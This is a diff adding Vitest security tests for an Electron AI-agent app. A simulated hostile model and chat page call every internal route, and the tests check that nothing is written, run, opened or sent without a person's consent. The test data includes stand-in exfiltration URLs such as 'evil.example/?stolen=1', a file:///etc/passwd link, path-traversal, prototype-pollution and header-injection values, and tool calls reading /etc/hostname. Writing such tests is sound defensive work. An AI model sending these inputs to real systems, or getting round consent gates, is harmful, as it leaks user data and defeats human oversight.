@@ -1,0 +1,273 @@
+import { existsSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { expect, onTestFinished, test, vi } from 'vitest';
+import { routes } from '../../src-preload/contract/index.ts';
+import { AppRig } from '../fixtures/electron-app.ts';
+import { startMessagesApi } from '../fixtures/messages-api/server.ts';
+
+const SOON = { timeout: 20_000, interval: 100 };
+const NO_ID = '00000000-0000-4000-8000-000000000000';
+
+interface Envelope {
+  readonly ok: boolean;
+  readonly data?: unknown;
+  readonly error?: { readonly code: string };
+}
+
+/** A model that does what the page wants: it writes, runs and reads outside, over and over. */
+function hostileModel(marker: string) {
+  const call = (name: string, input: Record<string, unknown>) => ({ type: 'tool_use' as const, name, input });
+  return {
+    turns: [
+      {
+        blocks: [
+          call('write_file', { path: 'written.txt', content: 'by the page' }),
+          call('append_file', { path: 'notes.md', content: 'by the page' }),
+          call('bash', { command: `touch ${marker}` }),
+          call('run_command', { command: 'touch', arguments: marker }),
+          call('read_file', { path: '/etc/hostname' }),
+        ],
+      },
+    ],
+    afterLast: 'repeat' as const,
+  };
+}
+
+/** Everything the page sends where the schema would want something sensible, and a few things that are sensible. */
+function inputsFor(route: string, outside: string): unknown[] {
+  const sensible: Readonly<Record<string, unknown[]>> = {
+    'settings.addFolder': [{ path: '/' }, { path: outside }, { path: '/etc' }, {}],
+    'settings.setToolEnabled': [
+      { name: 'bash', isEnabled: true },
+      { name: 'run_command', isEnabled: true },
+    ],
+    'settings.chooseModel': [{ specification: 'guide' }, { specification: 'anthropic:claude-sonnet-5-5' }],
+    'settings.setKey': [{ name: 'brave-api-key', value: 'BSA-from-the-page' }],
+    'settings.testKey': [{ name: 'openai-api-key', value: 'x\r\ny: z' }],
+    'settings.revokeRule': [{ id: NO_ID }],
+    'app.openExternal': [
+      { url: 'https://evil.example/?stolen=1' },
+      { url: 'file:///etc/passwd' },
+      { url: 'mailto:evil@example.com?body=stolen' },
+    ],
+    'conversations.send': [
+      { id: null, text: 'go' },
+      { id: null, text: '/bash {"command": "touch /tmp/never"}' },
+      { id: null, text: '/write_file {"path": "written.txt", "content": "x"}' },
+      { id: null, text: '/tools enable bash' },
+      { id: null, text: '/rules revoke x' },
+      { id: null, text: 'x', attachments: [{ kind: 'docx', name: '../../x', data: 'UEsDBA==' }] },
+    ],
+    'conversations.export': [{ id: NO_ID, format: 'markdown' }],
+    'consent.answer': [
+      { id: NO_ID, answer: 'once' },
+      { id: NO_ID, answer: 'always', offer: 0 },
+    ],
+  };
+  const garbage = [
+    undefined,
+    null,
+    0,
+    '',
+    'x'.repeat(100_000),
+    [],
+    [[]],
+    {},
+    { id: NO_ID },
+    { id: '../../etc/passwd' },
+  ];
+  return [...(sensible[route] ?? []), ...garbage, { path: outside, value: 1, name: '__proto__', id: { $ne: null } }];
+}
+
+test('arbitrary code in the chat can widen, write, run and send nothing without an answer in the other surface', async (context) => {
+  const marker = '/tmp/steward-hostile-page-ran-this';
+  const api = await startMessagesApi(hostileModel(marker));
+  onTestFinished(() => api.close());
+  const rig = new AppRig(context, {
+    api: api.url,
+    config: { tools: { disabled: ['run_command'] } },
+    files: { 'notes.md': 'mine\n' },
+  });
+  const outside = join(rig.home, 'outside');
+  rig.write(join(outside, 'secret.txt'), 'secret');
+  const running = await rig.launch();
+  const { app, chat } = running;
+  // What would show up outside the window is recorded instead.
+  await app.evaluate(({ shell, dialog }) => {
+    const outward: string[] = [];
+    Object.assign(globalThis, { outward });
+    for (const [object, names] of [
+      [shell, ['openExternal', 'openPath', 'showItemInFolder']],
+      [dialog, ['showOpenDialog', 'showSaveDialog']],
+    ] as const)
+      for (const name of names)
+        Object.assign(object, {
+          [name]: (...args: unknown[]) => {
+            outward.push(`${name} ${JSON.stringify(args.at(-1))}`);
+            return new Promise(() => undefined);
+          },
+        });
+  });
+  const request = (route: string, input: unknown): Promise<Envelope> =>
+    chat.evaluate(
+      ([name, value]) =>
+        (globalThis as unknown as { steward: { request(r: unknown, i: unknown): Promise<Envelope> } }).steward.request(
+          name,
+          value,
+        ),
+      [route, input] as const,
+    );
+  const before = (await request('settings.get', {})).data as Record<string, unknown>;
+
+  const attacks = Object.values(routes).flatMap((groups) =>
+    Object.entries(groups).flatMap(([group, members]) =>
+      Object.keys(members).flatMap((name) => {
+        const route = `${group}.${name}`;
+        return inputsFor(route, outside).map((input) => [route, input] as const);
+      }),
+    ),
+  );
+  expect(attacks.length).toBeGreaterThan(300);
+  // All at once, from the page itself; what asks a person never answers, so nothing is awaited for long.
+  await chat.evaluate(async (list) => {
+    const { steward } = globalThis as unknown as { steward: { request(r: unknown, i: unknown): Promise<unknown> } };
+    const seen: Record<string, unknown[]> = {};
+    Object.assign(globalThis, { seen });
+    for (const [route, input] of list) {
+      const answer = steward.request(route, input).catch((error: unknown) => ({ thrown: String(error) }));
+      void answer.then((envelope) => {
+        seen[route] = [...(seen[route] ?? []), envelope];
+      });
+      await Promise.race([answer, new Promise((resolve) => setTimeout(resolve, 150))]);
+    }
+  }, attacks);
+
+  // The model was asked and its calls are waiting for a person.
+  await vi.waitFor(() => expect(api.requests.length).toBeGreaterThan(0), SOON);
+  const consent = await running.consent();
+  await consent.getByRole('alertdialog').waitFor();
+
+  const seen = (await chat.evaluate(() => (globalThis as unknown as { seen: unknown }).seen)) as Record<
+    string,
+    readonly { ok: boolean; error?: { code: string } }[]
+  >;
+  for (const route of ['consent.state', 'consent.answer'])
+    expect(new Set((seen[route] ?? []).map(({ error }) => error?.code)), route).toEqual(new Set(['wrong_surface']));
+  for (const route of ['app.openExternal', 'settings.showProfileFolder', 'settings.chooseWorkspace'])
+    expect(
+      (seen[route] ?? []).filter(({ ok }) => ok),
+      route,
+    ).toEqual([]);
+  expect(JSON.stringify(seen)).not.toContain('sk-ant-api03-fixture');
+
+  const after = (await request('settings.get', {})).data as Record<string, unknown>;
+  for (const power of ['workspace', 'folders', 'tools', 'unconfirmed'])
+    expect(after[power], power).toEqual(before[power]);
+  expect((await request('settings.rules', {})).data).toEqual([]);
+  const config = JSON.parse(readFileSync(join(rig.profile, 'config.json'), 'utf8'));
+  expect({ ...config, model: undefined }).toEqual({ tools: { disabled: ['run_command'] }, model: undefined });
+  expect(existsSync(marker)).toBe(false);
+  expect(existsSync(join(rig.workspace, 'written.txt'))).toBe(false);
+  expect(readFileSync(join(rig.workspace, 'notes.md'), 'utf8')).toBe('mine\n');
+  expect(await app.evaluate(() => (globalThis as unknown as { outward: string[] }).outward)).toEqual([]);
+  const foreign = running.processes().filter(({ command }) => /touch|\bsh\b|xdg-open/.test(command));
+  expect(foreign).toEqual([]);
+  for (const { path } of api.requests) expect(path).toMatch(/^\/v1\/messages/);
+
+  // The same, refused by the person: still nothing.
+  await consent.getByRole('button', { name: /^Deny/ }).first().waitFor();
+  await running.close();
+  expect(existsSync(marker)).toBe(false);
+  expect(existsSync(join(rig.workspace, 'written.txt'))).toBe(false);
+});
+
+test('the chat has no way to the consent surface, and cannot move or resize what carries it', async (context) => {
+  const rig = new AppRig(context, { files: { 'notes.md': 'mine\n' } });
+  const running = await rig.launch();
+  const { app, chat } = running;
+  await chat.evaluate(() => {
+    const { steward } = globalThis as unknown as { steward: { request(r: string, i: unknown): Promise<unknown> } };
+    return steward.request('conversations.send', { id: null, text: 'run: touch never' });
+  });
+  const consent = await running.consent();
+  await consent.getByRole('alertdialog').waitFor();
+  const places = () =>
+    app.evaluate(({ BrowserWindow }) => {
+      const [window] = BrowserWindow.getAllWindows();
+      return { window: window?.getBounds(), view: window?.contentView.children.at(-1)?.getBounds() };
+    });
+  const before = await places();
+
+  const reached = await chat.evaluate(async () => {
+    const page = globalThis as unknown as {
+      moveTo(x: number, y: number): void;
+      resizeTo(x: number, y: number): void;
+      open(url: string, name?: string): unknown;
+      opener: unknown;
+      parent: unknown;
+      frames: { length: number };
+      document: { body: { append(node: unknown): void }; createElement(name: string): Record<string, unknown> };
+      steward: { request(r: string, i: unknown): Promise<{ error?: { code: string } }> };
+    };
+    page.moveTo(0, 0);
+    page.resizeTo(100, 100);
+    const frame = page.document.createElement('iframe');
+    page.document.body.append(frame);
+    const inFrame = (frame.contentWindow as { steward?: unknown } | null)?.steward;
+    const isFrozen = (() => {
+      try {
+        Object.assign(page.steward, { request: () => Promise.resolve('mine') });
+      } catch {
+        return true;
+      }
+      return false;
+    })();
+    return {
+      opened: [page.open('steward://consent/consent.html'), page.open('', '_blank')],
+      hasOpener: page.opener !== null,
+      inFrame: inFrame === undefined,
+      isFrozen,
+      answer: (await page.steward.request('consent.answer', { id: 'x', answer: 'once' })).error?.code,
+    };
+  });
+  expect(reached).toEqual({
+    opened: [null, null],
+    hasOpener: false,
+    inFrame: true,
+    isFrozen: true,
+    answer: 'wrong_surface',
+  });
+  expect(await places()).toEqual(before);
+  expect(before.view).toMatchObject({ x: 0, y: 0 });
+  expect(existsSync(join(rig.workspace, 'never'))).toBe(false);
+});
+
+test('a link opens when a person clicks or presses it, once for each time', async (context) => {
+  const { app, chat } = await new AppRig(context).launch();
+  await app.evaluate(({ shell }) => {
+    const opened: string[] = [];
+    Object.assign(globalThis, { opened });
+    Object.assign(shell, { openExternal: async (url: string) => void opened.push(url) });
+  });
+  const opened = () => app.evaluate(() => (globalThis as unknown as { opened: string[] }).opened);
+  await chat.evaluate(() => {
+    const page = globalThis as unknown as {
+      steward: { request(r: string, i: unknown): Promise<unknown> };
+      document: { body: { append(node: unknown): void }; createElement(name: string): Record<string, unknown> };
+    };
+    const open = (url: string) => page.steward.request('app.openExternal', { url });
+    const button = Object.assign(page.document.createElement('button'), {
+      textContent: 'Open both',
+      style: 'position: fixed; inset: 0 auto auto 0; z-index: 9999',
+      onclick: () => void open('https://example.com/first').then(() => open('https://example.com/second')),
+    });
+    page.document.body.append(button);
+    void open('https://example.com/by-script');
+  });
+  const button = chat.getByRole('button', { name: 'Open both' });
+  await button.click();
+  await vi.waitFor(async () => expect(await opened()).toEqual(['https://example.com/first']), SOON);
+  await button.press('Enter');
+  await vi.waitFor(async () => expect(await opened()).toHaveLength(2), SOON);
+  expect(new Set(await opened())).toEqual(new Set(['https://example.com/first']));
+});
